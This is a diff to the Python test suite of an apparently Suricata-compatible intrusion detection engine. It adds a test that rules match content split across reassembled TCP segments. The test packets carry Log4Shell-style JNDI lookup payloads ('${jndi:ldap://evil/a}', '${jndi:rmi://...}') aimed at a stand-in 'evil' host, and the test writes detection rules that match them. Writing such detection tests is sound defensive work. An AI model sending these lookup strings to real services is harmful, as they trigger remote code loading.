@@ -429,8 +429,10 @@ def rule_profiling(env):
     by_sid = {r["signature_id"]: r for r in profile["rules"]}
     # 9000019 (libssh2 banner): its fast pattern hits the 3 client banners, all match.
     check((by_sid[9000019]["checks"], by_sid[9000019]["matches"]) == (3, 3), by_sid[9000019])
-    # 9000020 ("SSH-2.0-" + paramiko): 3 server and 3 client banners are candidates, none matches.
-    check((by_sid[9000020]["checks"], by_sid[9000020]["matches"]) == (6, 0), by_sid[9000020])
+    # 9000020 ("SSH-2.0-" + paramiko, flow:to_server, port 22): the 3 client banners are
+    # candidates, none matches; the 3 server banners never are: the to_client signature groups
+    # do not hold a to_server rule.
+    check((by_sid[9000020]["checks"], by_sid[9000020]["matches"]) == (3, 0), by_sid[9000020])
     ticks = [r["ticks"] for r in profile["rules"]]
     check(ticks == sorted(ticks, reverse=True), "sorted by cost")
     check(os.path.exists(env.path("out/rule_perf.log")), "the text table is written too")
@@ -622,6 +624,65 @@ def tcp_stream_stats(env):
     check("tcp.retransmissions" in log and "tcp.sessions" in log, "stats.log has the tcp counters")
     _, stats = env.replay([env.path("st.pcap")], rules, "--set", "stream.midstream=yes")
     check(stats["tcp"]["sessions"] == 3 and stats["tcp"]["midstream_pickups"] == 1, f"midstream: {stats['tcp']}")
+
+
+@case
+def tcp_stream_cross_segment_matching(env):
+    """Rules match over the reassembled stream (Suricata's tcp rules inspect packets and the
+    stream): a content split across two segments, or completed by an out-of-order segment,
+    alerts once, at the packet that completes it. tcp-pkt and flow:no_stream rules see packets
+    only, tcp-stream and flow:only_stream rules the stream only."""
+    cap = Capture()
+    s = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40000, 8080)
+    s.handshake()                                   # 1-3
+    split = s.send(b"GET /x?q=${jn")                # 4: first half of ${jndi:
+    done = s.send(b"di:ldap://evil/a}")             # 5: completes it
+    whole = s.send(b"again ${jndi:ldap://x}")       # 6: whole in one segment
+    s.close()                                       # 7-9
+    # Out of order: the second half arrives first; the first half completes the match.
+    r = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40001, 8080)
+    r.handshake()                                   # 10-12
+    base = r.cseq
+    r.cseq = base + 7
+    later = r.send(b"ndi:rmi://evil}")              # 13: queued
+    r.cseq = base
+    fills = r.send(b"cmd=${j")                      # 14: fills the hole, completes ${jndi:
+    r.close()                                       # 15-17
+    cap.write(env.path("stream.pcap"))
+    rules = "\n".join([
+        'alert tcp any any -> any any (msg:"jndi (tcp)"; content:"${jndi:"; sid:1;)',
+        'alert tcp-pkt any any -> any any (msg:"jndi (tcp-pkt)"; content:"${jndi:"; sid:2;)',
+        'alert tcp any any -> any any (msg:"jndi (no_stream)"; flow:no_stream; content:"${jndi:"; sid:3;)',
+        'alert tcp-stream any any -> any any (msg:"jndi (tcp-stream)"; content:"${jndi:"; sid:4;)',
+        'alert tcp any any -> any any (msg:"jndi ldap (only_stream)"; flow:to_server,established,only_stream; '
+        'content:"${jndi:"; content:"ldap://"; distance:0; sid:5;)',
+        'alert tcp any any -> any any (msg:"two contents across segments"; content:"GET /"; depth:5; '
+        'content:"ldap://evil"; distance:0; sid:6;)',
+    ]) + "\n"
+    alerts, stats = env.replay([env.path("stream.pcap")], rules)
+    # Packet 5: the stream match of the split content (packet rules cannot see it). Packet 6:
+    # whole in the packet: packet and stream rules alike; the stream rules' second occurrence.
+    # Sid 6 at 5: GET / at stream start, ldap://evil after it in the stream; at 6 its fast
+    # pattern (the longest content, "ldap://evil") is not in the new bytes: no new candidate.
+    # Packet 14: the out-of-order segment completes ${jndi: (rmi, so not sid 5).
+    expected = sorted([(done, 1), (done, 4), (done, 5), (done, 6),
+                       (whole, 1), (whole, 2), (whole, 3), (whole, 4), (whole, 5),
+                       (fills, 1), (fills, 4)])
+    check(split < done < whole and later < fills, "packet numbers")
+    expect_alerts(sorted(alerts, key=lambda a: (a["pcap_cnt"], a["alert"]["signature_id"])), expected)
+    check(stats["tcp"]["sessions"] == 2, f"tcp {stats['tcp']}")
+    log = open(env.path("out/stats.log")).read()
+    check("detect.stream_matches" in log, "stream matches are counted in stats.log")
+
+    # Without a session (midstream off, no handshake in the capture) there is no stream:
+    # tcp rules still match packets, tcp-stream rules never.
+    cap = Capture()
+    cap.add(ether() / IP(src="10.0.0.3", dst="10.0.0.4") / TCP(sport=5555, dport=80, flags="PA", seq=7, ack=9)
+            / Raw(b"x ${jndi:ldap://y}"))
+    cap.write(env.path("midstream.pcap"))
+    shutil.rmtree(env.path("out"))
+    alerts, _ = env.replay([env.path("midstream.pcap")], rules)
+    expect_alerts(alerts, [(1, 1), (1, 2), (1, 3)])
 
 
 def main():
